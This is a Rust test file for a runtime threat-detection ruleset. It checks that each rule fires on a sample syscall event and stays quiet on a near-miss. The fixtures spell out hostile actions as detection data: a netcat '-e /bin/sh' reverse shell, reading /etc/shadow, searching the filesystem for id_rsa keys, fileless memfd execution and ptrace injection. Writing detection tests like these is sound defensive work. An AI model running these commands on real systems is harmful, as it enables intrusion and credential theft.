//! mamori's default ruleset (`rules/mamori_rules.yaml`): it loads with no warning, and every rule
//! has an event that fires it and a near-miss that does not.

use mamori_rules::{load, replay::parse_line, Engine, RuleMatching, RulesFile, Settings};

fn engine() -> Engine {
    let l = load(&[RulesFile::new(
        mamori_rules::DEFAULT_RULES_NAME,
        mamori_rules::DEFAULT_RULES,
    )])
    .unwrap_or_else(|e| panic!("{e}"));
    assert!(l.diagnostics.is_empty(), "{:?}", l.diagnostics);
    Engine::new(
        l.ruleset,
        Settings {
            rule_matching: RuleMatching::All,
            ..Settings::default()
        },
    )
}

fn rules_fired(e: &Engine, line: &str) -> Vec<String> {
    let mut v = Vec::new();
    e.process(&parse_line(line, 1).unwrap(), |a| v.push(a.rule));
    v
}

/// (rule, firing event, near-miss event)
const CASES: &[(&str, &str, &str)] = &[
    (
        "Sensitive file read",
        r#"{"evt.type":"openat","evt.is_open_read":true,"fd.typechar":"f","fd.name":"/etc/shadow","proc.name":"cat"}"#,
        r#"{"evt.type":"openat","evt.is_open_read":true,"fd.typechar":"f","fd.name":"/etc/shadow","proc.name":"passwd"}"#,
    ),
    (
        "Write below etc",
        r#"{"evt.type":"openat","evt.is_open_write":true,"fd.typechar":"f","fd.name":"/etc/cron.d/x","proc.name":"python3"}"#,
        r#"{"evt.type":"openat","evt.is_open_write":true,"fd.typechar":"f","fd.name":"/etc/cron.d/x","proc.name":"dpkg"}"#,
    ),
    (
        "Directory created in binary dir",
        r#"{"evt.type":"mkdirat","evt.arg.path":"/usr/local/bin/.x","proc.name":"sh"}"#,
        r#"{"evt.type":"mkdirat","evt.arg.path":"/usr/local/binx","proc.name":"sh"}"#,
    ),
    (
        "Terminal shell in container",
        r#"{"evt.type":"execve","proc.name":"bash","proc.tty":34816,"proc.pname":"runc","container.id":"abc"}"#,
        r#"{"evt.type":"execve","proc.name":"bash","proc.tty":0,"proc.pname":"runc","container.id":"abc"}"#,
    ),
    (
        "Package manager in container",
        r#"{"evt.type":"execve","proc.name":"apt-get","proc.cmdline":"apt-get install nmap","container.id":"abc"}"#,
        r#"{"evt.type":"execve","proc.name":"apt-get","proc.cmdline":"apt-get install nmap","container.id":"host"}"#,
    ),
    (
        "Netcat remote shell",
        r#"{"evt.type":"execve","proc.name":"nc","proc.args":"-e /bin/sh example.com 22"}"#,
        r#"{"evt.type":"execve","proc.name":"nc","proc.args":"-zv example.com 22"}"#,
    ),
    (
        "Shell with network standard streams",
        r#"{"evt.type":"execve","proc.name":"sh","proc.stdin.type":"ipv4","proc.stdin.name":"10.0.0.5:4444->10.0.0.9:51000"}"#,
        r#"{"evt.type":"execve","proc.name":"sh","proc.stdin.type":"pipe"}"#,
    ),
    (
        "Ptrace attach",
        r#"{"evt.type":"ptrace","evt.arg.request":"PTRACE_ATTACH","proc.name":"inject"}"#,
        r#"{"evt.type":"ptrace","evt.arg.request":"PTRACE_ATTACH","proc.name":"strace"}"#,
    ),
    (
        "Kernel module loaded",
        r#"{"evt.type":"finit_module","evt.rawres":0,"proc.name":"insmod"}"#,
        r#"{"evt.type":"finit_module","evt.rawres":-1,"proc.name":"insmod"}"#,
    ),
    (
        "Fileless execution",
        r#"{"evt.type":"execve","proc.name":"3","proc.exepath":"/memfd:payload (deleted)","proc.is_exe_from_memfd":true}"#,
        r#"{"evt.type":"execve","proc.name":"ls","proc.exepath":"/usr/bin/ls","proc.is_exe_from_memfd":false}"#,
    ),
    (
        "Kubernetes API contacted from container",
        r#"{"evt.type":"connect","fd.typechar":"4","evt.rawres":0,"fd.sip":"10.96.0.1","fd.sport":443,"proc.name":"curl","container.id":"abc"}"#,
        r#"{"evt.type":"connect","fd.typechar":"4","evt.rawres":0,"fd.sip":"10.96.0.1","fd.sport":443,"proc.name":"coredns","container.id":"abc"}"#,
    ),
    (
        "Search for private keys or cloud credentials",
        r#"{"evt.type":"execve","proc.name":"find","proc.args":"/ -name id_rsa"}"#,
        r#"{"evt.type":"execve","proc.name":"find","proc.args":"/ -name '*.log'"}"#,
    ),
    (
        "Reconnaissance command in web server container",
        r#"{"evt.type":"execve","proc.name":"whoami","container.id":"abc","container.image.repository":"docker.io/library/nginx"}"#,
        r#"{"evt.type":"execve","proc.name":"whoami","container.id":"abc","container.image.repository":"redis"}"#,
    ),
];

#[test]
fn every_rule_fires_and_has_a_near_miss() {
    let e = engine();
    for (rule, hit, miss) in CASES {
        let fired = rules_fired(&e, hit);
        assert!(
            fired.iter().any(|r| r == rule),
            "{rule}: expected to fire, got {fired:?}"
        );
        let fired = rules_fired(&e, miss);
        assert!(!fired.iter().any(|r| r == rule), "{rule}: near-miss fired");
    }
}

#[test]
fn every_rule_is_covered() {
    let e = engine();
    for r in e.ruleset().rules() {
        assert!(
            CASES.iter().any(|(n, _, _)| *n == r.name),
            "no test case for {}",
            r.name
        );
    }
}
